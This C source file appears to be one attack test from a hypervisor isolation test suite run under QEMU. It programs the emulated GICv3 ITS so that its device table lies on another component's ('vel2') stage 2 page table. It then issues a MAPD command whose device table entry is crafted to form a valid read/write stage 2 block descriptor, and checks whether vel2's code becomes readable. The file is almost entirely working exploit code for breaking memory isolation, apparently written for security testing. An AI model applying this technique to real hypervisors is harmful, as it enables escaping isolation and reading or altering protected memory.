// SPDX-License-Identifier: MIT
/*
 * attack_its: the GICv3 ITS (0x08080000, IHI 0069 chapter 6) writes a
 * device table entry wherever GITS_BASER0 says. With the device table at
 * vel2's stage 2 table, one MAPD for DeviceID 0 makes QEMU write entry 0
 * of that table: its DTE format { Valid[0], Size[5:1], ITT_addr>>8 [49:6] }
 * with Size 0 and ITT address 0x100001300 is 0x400004c1, a valid stage 2
 * block descriptor (Device memory, S2AP read/write, AF) for PA 0x40000000.
 */
#include "attack.h"

#define GITS 0x08080000UL
#define GITS_CTLR 0x0
#define GITS_TYPER 0x8
#define GITS_CBASER 0x80
#define GITS_CWRITER 0x88
#define GITS_CREADR 0x90
#define GITS_BASER0 0x100
#define VALID (1UL << 63)

static u64 cmdq[512] __attribute__((aligned(4096)));

int main(void)
{
	u64 f, typer, readr;

	attack_init("attack_its");
	f = attack_faults;
	typer = rd64(GITS + GITS_TYPER);
	if (attack_faults != f) {
		attack_result("ITS MAPD device table entry into vel2's stage 2",
			      false, "ITS frame not reachable", "");
		attack_done();
	}
	rt_puts("ITS reachable, GITS_TYPER ~");
	rt_hex_short(typer);
	rt_putc('\n');
	wr32(GITS + GITS_CTLR, 0);
	/* Device table: one 4 KiB page at the target, flat. */
	wr64(GITS + GITS_BASER0, VALID | attack_target());
	wr64(GITS + GITS_CBASER, VALID | (u64)cmdq); /* one page */
	wr64(GITS + GITS_CWRITER, 0);
	wr32(GITS + GITS_CTLR, 1); /* Enabled */
	/* MAPD: DW0 [7:0] 0x08, DeviceID [63:32] = 0; DW1 Size [4:0] = 0;
	 * DW2 ITT_addr [51:8], Valid [63]. */
	cmdq[0] = 0x08;
	cmdq[1] = 0;
	cmdq[2] = VALID | 0x100001300UL;
	cmdq[3] = 0;
	dsb(sy);
	wr64(GITS + GITS_CWRITER, 32);
	for (int n = 0; n < 1000000 && rd64(GITS + GITS_CREADR) != 32; n++)
		;
	readr = rd64(GITS + GITS_CREADR);
	rt_puts("ITS GITS_CREADR ~");
	rt_hex_short(readr);
	rt_putc('\n');
	attack_result("ITS MAPD device table entry into vel2's stage 2",
		      attack_vel2_readable(), "vel2's code not readable",
		      READABLE);
	attack_done();
}
